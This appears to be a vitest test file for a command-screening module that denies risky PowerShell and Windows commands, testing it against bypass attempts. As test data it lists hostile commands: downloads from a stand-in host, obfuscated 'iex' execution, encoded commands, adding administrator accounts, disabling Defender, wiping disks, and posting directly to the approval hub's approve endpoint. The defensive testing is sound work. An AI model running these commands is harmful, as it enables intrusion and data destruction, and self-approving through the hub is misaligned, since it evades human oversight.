import { describe, expect, it } from 'vitest';
import { judged, ruleIds } from './judging.ts';

const GUIDE_COMMANDS = [
  'whoami',
  'hostname',
  'Get-Date',
  'Get-Process python',
  'Get-Process python | Measure-Object',
  'Get-Process python | Select Id,Path,StartTime',
  'Get-Service | Where-Object Status -eq Running | Measure-Object',
  'Test-NetConnection 127.0.0.1 -Port 8787',
  'Get-ChildItem .\\runtime\\pending | Select Name,Length,LastWriteTime',
];

/** What the reference's regular expressions let pass, with the rule that denies it here. */
const BYPASSES: readonly (readonly [string, string])[] = [
  ['curl -O https://evil.example.test/a', 'downloads'],
  ['curl.exe https://evil.example.test/a', 'downloads'],
  ['iwr https://evil.example.test/a', 'downloads'],
  ['irm https://evil.example.test/a', 'remote-requests'],
  ['Invoke-RestMethod -Uri https://evil.example.test/a', 'remote-requests'],
  ['Invoke-RestMethod https://localhost.example.test/', 'remote-requests'],
  ["(New-Object Net.WebClient).DownloadString('https://evil.example.test/a')", 'downloads'],
  ["[Net.WebClient]::new().DownloadString('https://evil.example.test/a')", 'downloads'],
  ['Invoke-Command -ScriptBlock { hostname } -ComputerName h', 'remote-commands'],
  ['New-PSSession h', 'remote-sessions'],
  ['powershell -e AAAA', 'encoded-command'],
  ['i`ex $a', 'runs-text'],
  ["& ('ie'+'x') $a", 'runs-text'],
  ['[scriptblock]::Create($a).Invoke()', 'runs-text'],
  ['saps notepad', 'starts-process'],
  ['reg.exe add HKCU\\Software\\X', 'registry-tool'],
  ['net.exe user bob /add', 'accounts-and-services-tools'],
  ['gp HKLM:\\X', 'registry-values'],
  ['Register-ScheduledTask -TaskName a -Action $a', 'system-tools'],
  ['Invoke-RestMethod http://127.0.0.1:8787/approve/20250115_143022_a1b2c3d4 -Method Post', 'hub-control'],
];

const DOCUMENTED: readonly (readonly [string, string])[] = [
  ['schtasks /create /tn a /tr b', 'system-tools'],
  ['bcdedit /set a b', 'system-tools'],
  ['diskpart /s a.txt', 'system-tools'],
  ['cipher /w:C:\\', 'system-tools'],
  ['takeown /f a', 'system-tools'],
  ['icacls a /grant b:F', 'system-tools'],
  ['net user bob secret /add', 'accounts-and-services-tools'],
  ['net localgroup Administrators bob /add', 'accounts-and-services-tools'],
  ['sc.exe delete Spooler', 'accounts-and-services-tools'],
  ['wmic process list', 'accounts-and-services-tools'],
  ['reg add HKCU\\X', 'registry-tool'],
  ['reg export HKCU\\X a.reg', 'registry-tool'],
  ['Add-MpPreference -ExclusionPath C:\\', 'defender-settings'],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', 'defender-settings'],
  ['Disable-WindowsOptionalFeature -Online -FeatureName a', 'windows-features'],
  ['powershell -enc AAAA', 'encoded-command'],
  ['pwsh.exe -NoProfile -EncodedCommand AAAA', 'encoded-command'],
  ["[Convert]::FromBase64String('AAAA')", 'runs-text'],
  ["iex 'Get-Date'", 'runs-text'],
  ['Start-Process notepad', 'starts-process'],
  ['Invoke-WebRequest https://example.test', 'downloads'],
  ['wget https://example.test', 'downloads'],
  ['bitsadmin /transfer a', 'downloads'],
  ['Start-BitsTransfer https://example.test/a a', 'downloads'],
  ['Invoke-RestMethod https://example.test', 'remote-requests'],
  ['Invoke-Command -ComputerName a { hostname }', 'remote-commands'],
  ['Invoke-Command -Comp a { hostname }', 'remote-commands'],
  ['Enter-PSSession a', 'remote-sessions'],
  ['Get-Credential', 'credentials'],
  ["ConvertTo-SecureString 'a' -AsPlainText -Force", 'credentials'],
  ['Get-ItemProperty HKLM:\\Software', 'registry-values'],
  ["Set-ItemProperty -Path 'Registry::HKEY_CURRENT_USER\\X' -Name a -Value b", 'registry-values'],
  ['Remove-Item C:\\Users -Recurse', 'destroys-outside-workspace'],
];

describe('the reference', () => {
  it.each(GUIDE_COMMANDS)('shows as acceptable, and nothing here denies: %s', (text) => {
    expect(judged(text).verdict).toBe('ask');
    expect(judged(text).risk).toBe('low');
  });

  it.each(DOCUMENTED)('denies %s', (text, rule) => {
    const verdict = judged(text);
    expect(verdict.verdict).toBe('deny');
    expect(ruleIds(verdict)).toContain(rule);
  });

  it.each(BYPASSES)('is not bypassed by %s', (text, rule) => {
    const verdict = judged(text);
    expect(verdict.verdict).toBe('deny');
    expect(ruleIds(verdict)).toContain(rule);
  });

  it('is not bypassed by another shell', () => {
    expect(ruleIds(judged('cmd /c del a.txt'))).toContain('nested-shell');
    expect(judged('cmd /c reg add HKCU\\X').verdict).toBe('deny');
    expect(judged('cmd /c "dir & reg^ add HKCU\\X"').risk).toBe('high');
    expect(judged("python -c 'import os'").risk).toBe('high');
    expect(judged("python -c 'import os'").understood).toBe(false);
  });

  it('does not take words in an argument for commands', () => {
    const search = judged('Select-String -Pattern cipher notes.txt');
    expect(search).toMatchObject({ verdict: 'ask', risk: 'low', rules: [] });
    const commit = judged('git commit -m "Describe how Start-Process and iex are denied"');
    expect(commit.verdict).toBe('ask');
    expect(ruleIds(commit)).toEqual(['unknown-command']);
  });

  it('reaches this machine without being denied, except for the hub itself', () => {
    expect(judged('Invoke-RestMethod http://127.0.0.1:5000/health').verdict).toBe('ask');
    expect(judged('irm http://localhost:8787/plan -Method Post -Body $b').verdict).toBe('deny');
    expect(judged('irm http://2130706433:8787/approve/x').verdict).toBe('deny');
  });
});
